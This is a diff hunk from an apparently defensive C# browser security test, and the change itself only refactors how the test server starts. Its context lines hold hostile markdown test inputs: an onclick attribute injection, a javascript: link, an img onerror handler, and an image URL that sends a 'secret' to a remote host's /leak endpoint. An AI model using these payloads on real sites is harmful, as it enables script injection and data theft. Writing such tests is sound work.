@@ -110,9 +110,7 @@ public sealed class PageSecurityTests(BrowserFixture fixture) : IAsyncLifetime
             $"Click [here](https://example.com){{onclick=\"{HostileMarkdown.Payload}\"}} to see ![the chart](http://{HostileMarkdown.RemoteHost}/leak?q=secret) " +
             $"or [this](javascript:{HostileMarkdown.Payload}) <img src=x onerror=\"{HostileMarkdown.Payload}\"> done."));
         await using var edison = new EdisonFactory(hostile);
-        edison.UseKestrel(0);
-        edison.StartServer();
-        var address = (await edison.CreateReadyClientAsync()).BaseAddress!.ToString().TrimEnd('/');
+        var address = (await edison.StartOnSocketAsync()).BaseAddress!.ToString().TrimEnd('/');
         await _context.UnrouteAllAsync();
         await _context.RouteAsync("**/*", async route =>
         {
